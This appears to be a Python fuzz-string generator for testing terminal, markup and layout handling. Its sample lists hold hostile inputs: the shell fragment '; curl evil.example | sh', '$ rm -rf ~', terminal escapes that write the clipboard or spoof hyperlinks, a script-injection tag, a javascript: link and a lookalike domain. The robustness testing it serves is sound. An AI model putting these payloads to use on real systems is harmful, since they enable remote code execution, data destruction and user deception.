"""Strings that would harm a terminal, a markup parser or a layout, by chance: seed and number give the same one again.

Weighted alphabets: escape sequences whole and broken, C0, C1, DEL, hyperlinks, device strings, surrogates, bidi,
tags, variation selectors, piles of marks, wide and ambiguous letters, right-to-left words, markup of Textual and Rich,
Markdown, diffs, JSON, very long lines. Ends and begins with words that must be seen whatever stands between.
"""

from __future__ import annotations

from random import Random

FIRST, LAST = "qzbegin", "·qzend"
"""What a fuzzed text begins and ends with."""
_MANY = 10_000_000

_SEQUENCES = [
    "\x1b", "\x1b[", "\x1b]", "\x1bP", "\x1b_", "\x1b^", "\x1bX", "\x1b\\", "\x1bc", "\x1b7", "\x1b8", "\x1b(0",
    "\x1b#8",
    "\x1bN", "\x1bO", "\x1b=", "\x1b>", "\x1b%G", "\x1b\x1b", "\x1b[2J", "\x1b[3J", "\x1b[1;1H", "\x1b[1A\x1b[2K",
    "\x1b[6n",
    "\x1b[c", "\x1b[=c", "\x1b[>q", "\x1b[?1003h", "\x1b[?2004l", "\x1b[?2026h", "\x1b[?1049l", "\x1b[?25h",
    "\x1b[30;40m",
    "\x1b[8m", "\x1b[5m", "\x1b[38;2;1;2;3m", "\x1b[38;5;300m", "\x1b[48;2;;;m", "\x1b[4:3m", "\x1b[0m", "\x1b[m",
    "\x1b[9" * 9,
    "\x1b[1000000000b", "\x1b[21t", "\x1b[8;9999;9999t", "\x1b[200~", "\x1b[201~\ry\r", "\x1b[!p", "\x1b[5i",
    "\x1b[>4;2m",
    "\x1b[>1u", "\x1b]0;owned\x07", "\x1b]2;owned\x1b\\", "\x1b]52;c;QUFB\x07", "\x1b]4;1;?\x07",
    "\x1b]7;file://h/etc\x07",
    "\x1b]8;;http://evil.example\x1b\\", "\x1b]8;id=1;http://evil.example\x07click\x1b]8;;\x07", "\x1b]9;hi\x07",
    "\x1b]777;notify;a;b\x07", "\x1b]99;i=1;x\x1b\\", "\x1b]1337;File=:QUFB\x07", "\x1b]11;?\x07", "\x1bP+q544e\x1b\\",
    "\x1bPtmux;\x1b\x1b]0;x\x07\x1b\\", "\x1b_Gf=32;AAAA\x1b\\", "\x1b^pm\x1b\\", "\x1b[31\x18m", "\x1b[2\x1aJ",
    "\x9b2J",
    "\x9b31m", "\x9d0;t\x9c", "\x9d8;;http://evil.example\x9cx\x9d8;;\x9c", "\x90+q\x9c", "\x85", "\x84", "\x8d",
    "\x8e", "\x9c",
    "\xc2\x9b2J", "\x1b[1;", "\x1b[?", "\x1b]8;;", "\x1bP1;1|",
]  # fmt: skip
_CONTROLS = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))] + [
    "\r\n",
    "\r",
    "\x08" * 9,
    "\x07" * 5,
    "\x7f" * 7,
]
_HIDDEN = [
    *"\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\uffa0\u2800\u180e\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e"
    "\u2066\u2067\u2068\u2069\u2028\u2029\u00a0\u2003\u3000\ufffc\ufffd\ufffe\uffff\ue000\U000f0000\U0010fffd\ufe0e\ufe0f",
    "\U000e0041\U000e0042\U000e007f", "\U000e0100", "\ud800", "\udfff", "\ud83d\ude00", "\udc1b[2J", "a\u0301" * 3,
    "e" + "\u0300" * 40, "\u0e49" * 30, "\u20dd" * 9, "\ufe0f" * 9, "\u200d" * 20,
]  # fmt: skip
_WIDE = [
    "漢字", "かな", "한국어", "！？", "﹏", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪🇫", "👍🏽", "☺︎☺️", "ﷺ", "𒐫", "﷽", "…–—",
    "αβγ", "א״ב עברית",
    "العربية", "हिन्दी", "ไทยย", "ą̊ę", "ℵ∑", "┃│╭╮▎", "\u1160\u11a8", "ᄀ", "Ａｂ", "0️⃣", "\U0001f3fb",
]  # fmt: skip
_MARKUP = [
    "[/]", "[bold]", "[/bold]", "[@click=app.quit]x[/]", "[@click=app.canary('qz')]go[/]",
    "[link=http://evil.example]x[/link]",
    "[$error]", "[red on black]", "[[", "]]", "\\[", "[", "]", "[on", "[#ff0000]", "[not a tag", "[=", "[@",
    "[/@click]", ":smile:",
    "{name}", "%s", "$(id)", "`", "``", "[reverse]", "[auto 50%]", "<b>", "</script><script>alert(1)</script>",
    "<!--", "&lt;&#27;",
    "&#x1b;[2J", "&#155;", "&Tab;", "&#0;", "&#x202e;",
]  # fmt: skip
_MARKDOWN = [
    "# ", "\n## ", "\n- ", "\n  - ", "\n1. ", "\n> ", "\n>>>>> ", "\n```python\n", "\n```\n", "\n~~~diff\n",
    "\n    ", "\n\n", "\n---\n",
    "**", "__", "*", "~~", "`x`", "![i](http://evil.example/i.png)", "[x](javascript:alert(1))",
    "[x](http://evil.example/a)",
    "<http://evil.example>", "[x][y]\n\n[y]: http://evil.example\n\n", "\n\n| a | b |\n| --- | :-: |\n| c | d |\n",
    "\n| | |\n", "\n- [ ] ",
    "\n- [x] ", "\n\t", "\n===\n", "\\\n", "  \n", "\n* * *\n", "\n9999999999. ", "[^1]", "***", "![", "](",
    "<a@b.example>",
    "https://evil.example/\u202egnp", "http://аpple.example/", "http://e.example/\x1b[2J", "[a](<http://e.example/ b>)",
]  # fmt: skip
_CODE = [
    "\ndiff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,3 @@\n-old\n+new\n same\n", "\n@@ -9 @@\n", "\n+", "\n-",
    '{"a":[1,"\\u001b"]}',
    '\n{"k": "v",\n', "def f():\n    return '\x1b[31m'\n", "$ rm -rf ~", "; curl evil.example | sh", "#!/bin/sh\n",
    "\\x1b[2J", "\\u202e",
    "\\e[31m", "a\tb\tc", "\t\t\t", " " * 40, "\n" * 5, "(a+)+$", "/*", '"""', "'''", "<<EOF\n", "true", "null",
    "1e999",
]  # fmt: skip
_WORDS = [
    "word",
    "a",
    "the quick brown fox",
    " ",
    ", ",
    ". ",
    "\n",
    "Approved",
    "yes",
    "You: ",
    "done",
    "0",
    "Tab",
    "-",
    "x" * 70,
]
_ALPHABETS = [_SEQUENCES, _CONTROLS, _HIDDEN, _WIDE, _MARKUP, _MARKDOWN, _CODE, _WORDS]
_WEIGHTS = [
    [9, 4, 4, 2, 3, 4, 3, 8], [30, 8, 1, 0, 0, 0, 0, 6], [0, 1, 16, 8, 0, 0, 0, 8], [1, 0, 1, 1, 2, 24, 4, 10],
    [1, 1, 1, 1, 20, 3, 0, 6], [2, 1, 1, 1, 1, 2, 24, 8], [1, 12, 1, 0, 0, 0, 0, 3],
]  # fmt: skip


class Fuzz:
    """The strings of one seed."""

    def __init__(self, seed: int) -> None:
        self._seed = seed
        self.chance = Random()

    def text(self, number: int) -> str:
        """String `number`; `chance` goes on from there, so that what is done with it can be repeated, too."""
        chance = self.chance
        chance.seed(self._seed * _MANY + number)
        weights = chance.choice(_WEIGHTS)
        draw = chance.random()
        count = 1 + int(chance.expovariate(1 / 9)) if draw < 0.96 else 30 + int(chance.expovariate(1 / 60))
        middle = "".join(chance.choice(alphabet) for alphabet in chance.choices(_ALPHABETS, weights, k=count))
        if draw > 0.9993:
            middle *= chance.choice((50, 400))
            middle = middle.replace("\n", "") if chance.random() < 0.5 else middle
        elif draw > 0.998:
            middle = chance.choice("x[>*_`|~<(\u0301漢") * chance.choice((300, 2_500))
        return FIRST + middle + chance.choice(("", " ", "\n", "\n\n")) + LAST
